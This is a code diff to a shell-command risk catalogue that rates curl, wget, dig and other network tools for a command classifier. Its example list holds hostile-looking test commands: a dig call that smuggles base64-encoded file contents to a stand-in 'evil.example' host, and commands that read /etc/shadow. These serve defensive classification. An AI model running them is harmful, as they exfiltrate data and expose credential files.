@@ -14,12 +14,16 @@ export const network: Catalogue = {
       '-I, --head': 'only asks for the headers',
       '-i, --include': 'shows the headers too',
       '-v, --verbose': 'shows the whole conversation',
-      '-H, --header LINE': 'with this header',
-      '-A, --user-agent NAME': 'calls itself so',
+      '-H, --header LINE': { does: 'with this header', value: 'header' },
+      '-A, --user-agent NAME': { does: 'calls itself so', value: 'header' },
       '-m, --max-time SECONDS': 'waits no longer than this',
       '-w, --write-out FORMAT': 'prints facts about the transfer',
       '-o, --output FILE': { does: 'writes the answer to a file', value: 'writes' },
-      '-O, --remote-name': { does: 'writes the answer to a file called like the address', risk: 'medium' },
+      '-O, --remote-name': {
+        operands: ['download...'],
+        does: 'writes the answer to a file called like the address',
+        risk: 'medium',
+      },
       '-J, --remote-header-name': { does: 'lets the server name the file', risk: 'medium' },
       '--output-dir DIR': { does: 'writes files into this folder', value: 'writes' },
       '-D, --dump-header FILE': { does: 'writes the headers to a file', value: 'writes' },
@@ -44,8 +48,8 @@ export const network: Catalogue = {
       '-K, --config FILE': { does: 'takes its options from a file', risk: 'opaque' },
       '-Q, --quote COMMAND': { does: 'sends a command to the server', risk: 'high' },
       '-E, --cert FILE': 'with this certificate',
-      '-u, --user NAME': 'signs in as this user',
-      '-b, --cookie DATA': 'with these cookies',
+      '-u, --user NAME': { does: 'signs in as this user', value: 'header' },
+      '-b, --cookie DATA': { does: 'with these cookies', value: 'header' },
       '-k, --insecure': { does: 'does not check who the server is', risk: 'medium' },
       '-x, --proxy URL': { does: 'through this proxy', risk: 'low' },
       '--unix-socket PATH': { does: 'talks to a local service', risk: 'medium' },
@@ -81,7 +85,7 @@ export const network: Catalogue = {
   wget: {
     does: 'fetches files from the network',
     risk: 'medium',
-    operands: ['url...'],
+    operands: ['download...'],
     options: {
       '-q, --quiet': 'says nothing',
       '-O, --output-document FILE': { does: 'writes the answer to this file', value: 'writes' },
@@ -96,8 +100,8 @@ export const network: Catalogue = {
       '-T, --timeout SECONDS': 'waits no longer than this',
       '-t, --tries NUM': 'tries this often',
       '-S, --server-response': 'shows the headers',
-      '--header LINE': 'with this header',
-      '-U, --user-agent NAME': 'calls itself so',
+      '--header LINE': { does: 'with this header', value: 'header' },
+      '-U, --user-agent NAME': { does: 'calls itself so', value: 'header' },
       '--no-check-certificate': { does: 'does not check who the server is', risk: 'medium' },
       '--post-data DATA': { does: 'sends data', value: 'sends', risk: 'medium' },
       '--body-data DATA': { does: 'sends data', value: 'sends', risk: 'medium' },
@@ -119,9 +123,10 @@ export const network: Catalogue = {
       {
         when: { option: '--spider --version --help' },
         risk: 'read_only',
+        operands: ['url...'],
         does: 'checks that something is on the network',
       },
-      { when: { option: '-O' }, risk: 'read_only', does: 'fetches from the network' },
+      { when: { option: '-O' }, risk: 'read_only', operands: ['url...'], does: 'fetches from the network' },
     ],
     examples: {
       'wget -qO- https://example.com': 'read_only',
@@ -161,7 +166,7 @@ export const network: Catalogue = {
   'dig|host|nslookup|drill|kdig|delv|whois|getent|resolveip|dog|doggo': {
     does: 'looks up names',
     risk: 'read_only',
-    operands: ['text...'],
+    operands: ['lookup...'],
     anyOption: true,
     options: {
       '-f FILE': { does: 'takes the questions from a file', value: 'reads' },
@@ -179,7 +184,7 @@ export const network: Catalogue = {
       'dig -x 127.0.0.1': 'read_only',
       'getent passwd bob': 'read_only',
       'getent shadow': 'high',
-      'dig "$(cat x | base64).evil.example"': 'medium',
+      'dig "$(cat x | base64).evil.example"': 'high',
       'dig -f /etc/shadow': 'high',
     },
   },
@@ -201,7 +206,7 @@ export const network: Catalogue = {
     },
     examples: { 'ss -tlnp': 'read_only', 'ss -K dst 1.2.3.4': 'high', 'ss -a -F /etc/shadow': 'high' },
   },
-  'netstat|vnstat|iwlist|ipcalc|sipcalc|lldpcli': {
+  'netstat|iwlist|ipcalc|sipcalc': {
     does: 'shows facts about the network',
     risk: 'read_only',
     anyOption: true,
@@ -350,7 +355,7 @@ export const network: Catalogue = {
       needsRoot: true,
       operands: ['text...'],
       plain:
-        '-t -p -g=FIELDS -f=FIELDS -c=WHEN --terse --pretty --fields=X --get-values=X --colors=X --no-pager -m=MODE -s',
+        '-t -p -g=FIELDS -f=FIELDS -c=WHEN --terse --pretty --fields=X --get-values=X --colors=X --no-pager -m=MODE -s --active --order=X -w=N --wait=N',
       effects: [{ kind: 'setting', action: 'changes', name: 'the network' }],
       cases: [
         {
